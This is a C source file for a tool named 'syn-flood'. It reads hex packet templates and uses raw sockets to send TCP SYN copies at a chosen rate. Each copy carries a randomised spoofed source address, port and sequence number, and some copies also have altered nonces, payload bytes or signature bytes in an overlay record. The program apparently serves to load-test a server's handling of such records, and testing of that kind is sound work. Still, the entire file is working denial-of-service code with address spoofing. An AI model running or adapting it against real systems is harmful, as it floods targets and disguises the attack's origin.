/*
 * Sends changed copies of SYNs at a steady rate. Usage: syn-flood RATE SECONDS < TEMPLATES, a line each: a letter and the packet in
 * hex. Each copy has another source (of the template's /8, or its /64), source port and sequence number, and
 *   g  other bytes behind the overlay's header,
 *   m  another nonce and another end: that of the record's signature,
 *   n  another nonce: the record as it is,
 *   r  the overlay as it is.
 * Prints how many it sent.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define MAX_PACKET 2048
#define MAX_TEMPLATES 64
#define OVERLAY_HEADER 8
#define NONCE 16
#define SIGNATURE_END 16

struct template {
  char kind;
  size_t length;
  uint8_t bytes[MAX_PACKET];
};

static struct template templates[MAX_TEMPLATES];
static size_t count;
static uint64_t state = 88172645463325252ull;

static uint64_t draw(void) {
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return state;
}

static void randomise(uint8_t *at, size_t length) {
  for (size_t i = 0; i < length; i++) at[i] = (uint8_t)draw();
}

static uint32_t sum(const uint8_t *at, size_t length, uint32_t total) {
  for (size_t i = 0; i + 1 < length; i += 2) total += (uint32_t)at[i] << 8 | at[i + 1];
  if (length % 2 == 1) total += (uint32_t)at[length - 1] << 8;
  return total;
}

static void store_sum(uint8_t *at, uint32_t total) {
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  at[0] = (uint8_t)(~total >> 8);
  at[1] = (uint8_t)~total;
}

/* RFC 791, 8200 and 9293: the source, the port, the number, the overlay, and both checksums. */
static void change(uint8_t *packet, size_t length, char kind) {
  int is_v4 = packet[0] >> 4 == 4;
  size_t header = is_v4 ? (packet[0] & 15) * 4u : 40;
  uint8_t *tcp = packet + header;
  size_t segment = length - header;
  uint8_t *overlay = tcp + (tcp[12] >> 4) * 4;
  size_t overlay_length = (size_t)(packet + length - overlay);
  if (is_v4) randomise(packet + 13, 3);
  else randomise(packet + 16, 8);
  randomise(tcp, 2);
  tcp[0] |= 0x10;
  randomise(tcp + 4, 4);
  if (kind == 'g') randomise(overlay + OVERLAY_HEADER, overlay_length - OVERLAY_HEADER);
  if (kind == 'm' || kind == 'n') randomise(overlay + OVERLAY_HEADER, NONCE);
  if (kind == 'm') {
    randomise(overlay + overlay_length - SIGNATURE_END, SIGNATURE_END);
  }
  if (is_v4) {
    packet[10] = packet[11] = 0;
    store_sum(packet + 10, sum(packet, header, 0));
  }
  tcp[16] = tcp[17] = 0;
  uint32_t pseudo = is_v4 ? sum(packet + 12, 8, 0) : sum(packet + 8, 32, 0);
  store_sum(tcp + 16, sum(tcp, segment, pseudo + IPPROTO_TCP + (uint32_t)segment));
}

static void read_templates(void) {
  static char line[2 * MAX_PACKET + 8];
  while (count < MAX_TEMPLATES && fgets(line, sizeof line, stdin)) {
    struct template *t = &templates[count];
    const char *hex = line + 2;
    t->kind = line[0];
    while (isxdigit((unsigned char)hex[0]) && sscanf(hex, "%2hhx", &t->bytes[t->length]) == 1) {
      t->length++;
      hex += 2;
    }
    if (t->length > 0) count++;
  }
}

static void send_packet(int v4, int v6, const uint8_t *packet, size_t length) {
  if (packet[0] >> 4 == 4) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    memcpy(&to.sin_addr, packet + 16, 4);
    if (sendto(v4, packet, length, 0, (struct sockaddr *)&to, sizeof to) >= 0) return;
  } else {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6};
    memcpy(&to.sin6_addr, packet + 24, 16);
    if (sendto(v6, packet, length, 0, (struct sockaddr *)&to, sizeof to) >= 0) return;
  }
  if (errno == ENOBUFS || errno == EAGAIN) return;
  perror("sendto");
  exit(1);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  double rate = atof(argv[1]), seconds = atof(argv[2]);
  int v4 = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), v6 = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
  if (v4 < 0 || v6 < 0) return perror("socket"), 1;
  read_templates();
  if (count == 0) return 2;
  uint64_t sent = 0;
  for (double began = now(), passed = 0; passed < seconds; passed = now() - began) {
    for (uint64_t due = (uint64_t)(passed * rate); sent < due; sent++) {
      struct template *t = &templates[sent % count];
      uint8_t packet[MAX_PACKET];
      memcpy(packet, t->bytes, t->length);
      change(packet, t->length, t->kind);
      send_packet(v4, v6, packet, t->length);
    }
    struct timespec pause = {0, 1000000};
    nanosleep(&pause, NULL);
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
